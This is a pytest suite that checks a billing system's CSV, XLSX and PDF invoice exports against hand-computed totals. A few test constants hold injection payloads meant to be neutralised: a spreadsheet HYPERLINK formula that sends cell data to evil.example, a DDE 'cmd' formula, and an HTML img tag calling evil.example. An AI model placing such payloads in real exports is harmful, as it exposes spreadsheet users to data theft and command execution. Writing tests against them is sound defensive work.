"""Invoice exports read back: CSV rows, XLSX cells and PDF text say what the invoice says."""

import csv
import io
import zipfile
from datetime import date, datetime
from decimal import Decimal

import openpyxl
import pytest
from pypdf import PdfReader

from billing.calculations import (
    Allocation,
    Rate,
    UsageAmount,
    allocated_seconds,
    credit_lines,
    invoice_lines,
)
from billing.documents import InvoiceDocument, invoice_document
from billing.exports import (
    CSV_COLUMNS,
    invoice_pdf,
    invoice_pdf_html,
    invoices_csv,
    invoices_xlsx,
    write_invoice_list_xlsx,
)
from core import csv_export

from .timeline import as_usage, utc

H200 = "gpu:nvidia-h200"
HOSTILE_TENANT = '=HYPERLINK("http://evil.example/?x="&A1,"Acme")'
HOSTILE_COST_CENTER = "+cmd|' /C calc'!A0"
MARCH = {"period_start": utc(2025, 3, 1), "period_end": utc(2025, 4, 1)}
RATES = [
    Rate(H200, Decimal("2.50"), utc(2025, 1, 1), utc(2025, 3, 16)),
    Rate(H200, Decimal("3.00"), utc(2025, 3, 16), None),
    Rate("storage-gib", Decimal("0.10"), utc(2025, 1, 1), None, unit="month"),
]


def _march_invoice(*, number="INV-2025-03-0001", tenant="Acme Labs", cost_center="CC-4711"):
    usage = [UsageAmount(H200, utc(2025, 3, 10, hour), 2 * 3600) for hour in range(10)]
    usage += [UsageAmount(H200, utc(2025, 3, 20, hour), 2 * 3600) for hour in range(5)]
    disk = Allocation(start=utc(2025, 2, 1), end=None, demand={"storage-gib": 100})
    usage += as_usage(
        allocated_seconds(
            [disk], window_start=MARCH["period_start"], window_end=MARCH["period_end"]
        )
    )
    usage.append(UsageAmount("hami-core:nvidia-h100-80gb", utc(2025, 3, 5), 30 * 3600))
    credits = credit_lines({(utc(2025, 3, 10, 3), H200): 3600}, RATES, **MARCH)
    computation = invoice_lines(
        usage,
        RATES,
        **MARCH,
        credits=credits,
        discount_percent=Decimal("10"),
        tax_percent=Decimal("19"),
    )
    return invoice_document(
        computation=computation,
        number=number,
        tenant_name=tenant,
        tenant_slug="acme",
        cost_center=cost_center,
        issue_date=date(2025, 4, 1),
        due_date=date(2025, 4, 30),
        currency="EUR",
        status="issued",
    )


# The invoice, by hand:
#   H200 1-15 March: 10 h x 2 GPUs = 20 GPU-hours x 2.50 =  50.00
#   H200 16-31 March: 5 h x 2 GPUs = 10 GPU-hours x 3.00 =  30.00
#   storage: 100 GiB all March = 100 GiB-months x 0.10   =  10.00
#   downtime credit: 1 GPU-hour on 10 March x 2.50      =  -2.50
#   subtotal 87.50; discount 10 % = -8.75; tax 19 % of 78.75 = 14.9625 -> 14.96; total 93.71
EXPECTED_AMOUNTS = ["50.00", "30.00", "10.00", "-2.50", "-8.75", "14.96", ""]


def test_the_document_carries_the_hand_computed_totals():
    document = _march_invoice()

    assert [line.amount for line in document.lines] == [
        Decimal("50.00"),
        Decimal("30.00"),
        Decimal("10.00"),
    ]
    assert document.totals.total == Decimal("93.71")
    assert (document.period_start, document.period_end) == (date(2025, 3, 1), date(2025, 3, 31))
    assert [(line.period_start, line.period_end) for line in document.lines[:2]] == [
        (date(2025, 3, 1), date(2025, 3, 15)),
        (date(2025, 3, 16), date(2025, 3, 31)),
    ]


def _csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_the_csv_has_a_row_per_line_whose_amounts_add_up_to_the_total():
    rows = _csv_rows(invoices_csv(documents=[_march_invoice()]))

    assert tuple(rows[0]) == CSV_COLUMNS
    assert [row["line_type"] for row in rows] == [
        "usage",
        "usage",
        "usage",
        "credit",
        "discount",
        "tax",
        "unpriced",
    ]
    assert [row["amount"] for row in rows] == EXPECTED_AMOUNTS
    assert sum(Decimal(row["amount"]) for row in rows if row["amount"]) == Decimal("93.71")
    assert {row["invoice_total"] for row in rows} == {"93.71"}
    first = rows[0]
    assert first["invoice_number"] == "INV-2025-03-0001"
    assert (first["period_start"], first["period_end"]) == ("2025-03-01", "2025-03-31")
    assert (first["issue_date"], first["due_date"]) == ("2025-04-01", "2025-04-30")
    assert (first["quantity_hours"], first["unit_price"], first["tax_rate"]) == (
        "20.000000",
        "2.50",
        "19",
    )
    storage = rows[2]
    assert (storage["quantity_hours"], storage["quantity"], storage["unit"]) == (
        "74400.000000",  # 100 GiB x 744 h
        "100.000000",  # GiB-months
        "month",
    )
    unpriced = rows[-1]
    assert unpriced["resource_class"] == "hami-core:nvidia-h100-80gb"
    assert (unpriced["quantity_hours"], unpriced["unit_price"]) == ("30.000000", "")


def test_the_csv_neutralises_a_tenant_and_cost_center_that_look_like_formulas():
    document = _march_invoice(tenant=HOSTILE_TENANT, cost_center=HOSTILE_COST_CENTER)

    rows = _csv_rows(invoices_csv(documents=[document]))

    for row in rows:
        assert row["tenant"] == "'" + HOSTILE_TENANT
        assert row["cost_center"] == "'" + HOSTILE_COST_CENTER
        assert csv_export.unescape_cell(row["tenant"]) == HOSTILE_TENANT
        assert row["amount"] == "" or row["amount"][0] in "-0123456789"  # numbers left alone


def test_csv_numbers_are_fixed_point_never_exponents():
    document = _march_invoice()
    rows = _csv_rows(invoices_csv(documents=[document]))

    numbers = [row[c] for row in rows for c in ("quantity_hours", "quantity", "unit_price")]
    assert all("E" not in value and "," not in value for value in numbers)


def _workbook(*documents: InvoiceDocument):
    return openpyxl.load_workbook(io.BytesIO(invoices_xlsx(documents=list(documents))))


def test_the_xlsx_summary_has_a_row_per_invoice_with_real_numbers_and_dates():
    workbook = _workbook(_march_invoice(), _march_invoice(number="INV-2025-03-0002"))

    summary = workbook["Summary"]
    assert workbook.sheetnames == ["Summary", "INV-2025-03-0001", "INV-2025-03-0002"]
    header = [cell.value for cell in summary[1]]
    assert header[0] == "Invoice" and header[-5:] == [
        "Total", "Credited", "Net total", "Paid", "Balance due"]
    row = {title: cell for title, cell in zip(header, summary[2], strict=True)}
    assert row["Invoice"].value == "INV-2025-03-0001"
    assert row["Total"].data_type == "n" and Decimal(str(row["Total"].value)) == Decimal("93.71")
    assert "EUR" in row["Total"].number_format and "0.00" in row["Total"].number_format
    assert Decimal(str(row["Discount"].value)) == Decimal("-8.75")
    assert row["Issue date"].is_date and row["Issue date"].value.date() == date(2025, 4, 1)
    assert row["Period end"].is_date and row["Period end"].value == datetime(2025, 3, 31)
    assert summary.max_row == 3


def test_the_xlsx_invoice_sheet_lists_its_lines_as_numbers():
    sheet = _workbook(_march_invoice())["INV-2025-03-0001"]

    rows = [[cell for cell in row] for row in sheet.iter_rows()]
    header_at = next(i for i, row in enumerate(rows) if row[0].value == "Type")
    titles = [cell.value for cell in rows[header_at]]
    lines = [dict(zip(titles, row, strict=True)) for row in rows[header_at + 1 :] if row[0].value]
    assert [line["Type"].value for line in lines] == [
        "usage",
        "usage",
        "usage",
        "credit",
        "unpriced",
    ]
    amounts = [line["Amount"] for line in lines[:4]]
    assert all(cell.data_type == "n" for cell in amounts)
    assert [Decimal(str(cell.value)) for cell in amounts] == [
        Decimal("50.00"),
        Decimal("30.00"),
        Decimal("10.00"),
        Decimal("-2.50"),
    ]
    assert (
        lines[0]["Quantity (hours)"].data_type == "n" and lines[0]["Quantity (hours)"].value == 20
    )
    assert lines[0]["From"].is_date and lines[0]["To"].value == datetime(2025, 3, 15)
    assert lines[-1]["Amount"].value is None  # unpriced: shown, not billed
    feet = {row[8].value: row[9] for row in rows if row[8].value in ("Subtotal", "Total")}
    assert Decimal(str(feet["Subtotal"].value)) == Decimal("87.50")
    assert Decimal(str(feet["Total"].value)) == Decimal("93.71")
    assert feet["Total"].data_type == "n"


def test_the_xlsx_stores_formula_looking_text_as_text():
    document = _march_invoice(tenant=HOSTILE_TENANT, cost_center="#N/A")
    raw = invoices_xlsx(documents=[document])

    workbook = openpyxl.load_workbook(io.BytesIO(raw))
    tenant = workbook["Summary"]["B2"]
    assert (tenant.value, tenant.data_type) == (HOSTILE_TENANT, "s")
    assert (workbook["Summary"]["D2"].value, workbook["Summary"]["D2"].data_type) == ("#N/A", "s")
    with zipfile.ZipFile(io.BytesIO(raw)) as package:
        sheets = [name for name in package.namelist() if name.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in package.read(name) for name in sheets)


def test_the_xlsx_sheet_names_follow_excels_rules():
    workbook = _workbook(
        _march_invoice(number="INV/2025:03*[a-very-long-invoice-number-indeed]"),
        _march_invoice(number="inv/2025:03*[a-very-long-invoice-number-indeed]"),
    )

    names = workbook.sheetnames[1:]
    assert len(names) == 2 and len({name.lower() for name in names}) == 2
    assert all(len(name) <= 31 and not set(name) & set("[]:*?/\\") for name in names)


def _list_workbook(*documents: InvoiceDocument) -> tuple[bytes, openpyxl.Workbook]:
    out = io.BytesIO()
    write_invoice_list_xlsx(documents=documents, out=out)
    return out.getvalue(), openpyxl.load_workbook(io.BytesIO(out.getvalue()))


def _sheet_rows(sheet) -> list[dict]:
    titles = [cell.value for cell in sheet[1]]
    return [dict(zip(titles, row, strict=True)) for row in sheet.iter_rows(min_row=2)]


def test_the_list_xlsx_is_two_sheets_whatever_the_number_of_invoices():
    numbers = [f"INV-2025-03-{n:04d}" for n in range(1, 6)]
    _, workbook = _list_workbook(*(_march_invoice(number=number) for number in numbers))

    assert workbook.sheetnames == ["Invoices", "Lines"]
    invoices = _sheet_rows(workbook["Invoices"])
    assert [row["Invoice"].value for row in invoices] == numbers
    first = invoices[0]
    assert first["Total"].data_type == "n" and Decimal(str(first["Total"].value)) == Decimal(
        "93.71"
    )
    assert first["Total"].number_format == "#,##0.00 [$EUR];-#,##0.00 [$EUR]"
    assert first["Issue date"].is_date and first["Issue date"].value == datetime(2025, 4, 1)
    assert first["Issue date"].number_format == "yyyy-mm-dd"
    assert workbook["Invoices"]["A1"].font.bold  # the header, styled as before
    # Each invoice: 3 usage lines, a credit, the discount, the tax and the unpriced usage.
    assert len(_sheet_rows(workbook["Lines"])) == 5 * 7


def test_the_list_xlsx_lines_sheet_has_every_line_with_its_invoice():
    _, workbook = _list_workbook(_march_invoice())

    lines = _sheet_rows(workbook["Lines"])
    assert [line["Type"].value for line in lines] == [
        "usage",
        "usage",
        "usage",
        "credit",
        "discount",
        "tax",
        "unpriced",
    ]
    assert {line["Invoice"].value for line in lines} == {"INV-2025-03-0001"}
    assert {line["Tenant"].value for line in lines} == {"Acme Labs"}
    assert {line["Currency"].value for line in lines} == {"EUR"}
    assert all(line["Period start"].value == datetime(2025, 3, 1) for line in lines)
    assert all(line["Period end"].value == datetime(2025, 3, 31) for line in lines)
    amounts = [line["Amount"] for line in lines[:6]]
    assert all(cell.data_type == "n" and "EUR" in cell.number_format for cell in amounts)
    assert [Decimal(str(cell.value)).quantize(Decimal("0.01")) for cell in amounts] == [
        Decimal("50.00"),
        Decimal("30.00"),
        Decimal("10.00"),
        Decimal("-2.50"),
        Decimal("-8.75"),
        Decimal("14.96"),
    ]
    assert sum(Decimal(str(cell.value)) for cell in amounts) == Decimal("93.71")
    first = lines[0]
    assert first["Quantity (hours)"].value == 20
    assert first["Quantity (hours)"].number_format == "#,##0.000000"
    assert first["Unit price"].number_format == "#,##0.00####"
    assert first["From"].is_date and first["To"].value == datetime(2025, 3, 15)
    assert lines[4]["Description"].value == "Discount 10 %"
    assert lines[-1]["Amount"].value is None and lines[-1]["Quantity (hours)"].value == 30


def test_the_list_xlsx_stores_formula_looking_text_as_text_in_both_sheets():
    hostile = _march_invoice(tenant=HOSTILE_TENANT, cost_center="#N/A")
    raw, workbook = _list_workbook(hostile, _march_invoice(number="INV-2"))

    invoices = _sheet_rows(workbook["Invoices"])
    assert (invoices[0]["Tenant"].value, invoices[0]["Tenant"].data_type) == (HOSTILE_TENANT, "s")
    assert (invoices[0]["Cost center"].value, invoices[0]["Cost center"].data_type) == ("#N/A", "s")
    # The next invoice's cells are its own (a text cell is never reused for the next value).
    assert invoices[1]["Tenant"].value == "Acme Labs" and invoices[1]["Tenant slug"].value == "acme"
    lines = _sheet_rows(workbook["Lines"])
    hostile_lines = [line for line in lines if line["Invoice"].value == "INV-2025-03-0001"]
    assert all(line["Tenant"].value == HOSTILE_TENANT for line in hostile_lines)
    assert all(line["Tenant"].data_type == "s" for line in hostile_lines)
    assert all(line["Tenant slug"].value == "acme" for line in lines)
    with zipfile.ZipFile(io.BytesIO(raw)) as package:
        sheets = [name for name in package.namelist() if name.startswith("xl/worksheets/")]
        assert len(sheets) == 2 and not any(b"<f>" in package.read(name) for name in sheets)


def _pdf_text(document: InvoiceDocument) -> str:
    pdf = invoice_pdf(document=document)
    assert pdf.startswith(b"%PDF-")
    reader = PdfReader(io.BytesIO(pdf))
    return "\n".join(page.extract_text() for page in reader.pages)


def test_the_pdf_says_who_what_and_how_much():
    text = _pdf_text(_march_invoice())

    assert "INV-2025-03-0001" in text
    assert "Acme Labs" in text and "CC-4711" in text
    assert "2025-03-01 to 2025-03-31" in text
    # Line amounts under an "Amount (EUR)" heading; the totals name the currency.
    assert "Amount (EUR)" in text
    for expected in ("50.00", "30.00", "10.00", "-2.50", "EUR -8.75", "EUR 14.96"):
        assert expected in text
    assert "NVIDIA H200 141GB GPUs" in text and "Storage (GiB)" in text
    assert "Downtime credit" in text
    assert "Total" in text and "EUR 93.71" in text
    assert "not billed" in text and "hami-core:nvidia-h100-80gb" in text


def test_the_pdf_shows_a_hostile_tenant_name_as_text():
    html = invoice_pdf_html(document=_march_invoice(tenant='<img src="http://evil.example/x">'))

    assert "<img" not in html and "&lt;img" in html
    assert '<img src="http://evil.example/x">' in _pdf_text(
        _march_invoice(tenant='<img src="http://evil.example/x">')
    )


def test_a_document_with_no_lines_still_renders():
    computation = invoice_lines([], RATES, **MARCH)
    document = invoice_document(
        computation=computation,
        number="INV-EMPTY",
        tenant_name="Globex",
        tenant_slug="globex",
        cost_center="",
        issue_date=date(2025, 4, 1),
        due_date=date(2025, 4, 1),
        currency="EUR",
        status="draft",
    )

    assert "No usage was billed" in _pdf_text(document)
    assert _csv_rows(invoices_csv(documents=[document])) == []
    assert _workbook(document)["Summary"]["N2"].value == 0


@pytest.mark.parametrize("currency", ["eur", "EURO", '0.00"'])
def test_a_currency_that_is_not_an_iso_code_is_refused(currency):
    with pytest.raises(ValueError, match="ISO 4217"):
        invoice_document(
            computation=invoice_lines([], RATES, **MARCH),
            number="INV-1",
            tenant_name="Acme",
            tenant_slug="acme",
            cost_center="",
            issue_date=date(2025, 4, 1),
            due_date=date(2025, 4, 30),
            currency=currency,
            status="draft",
        )
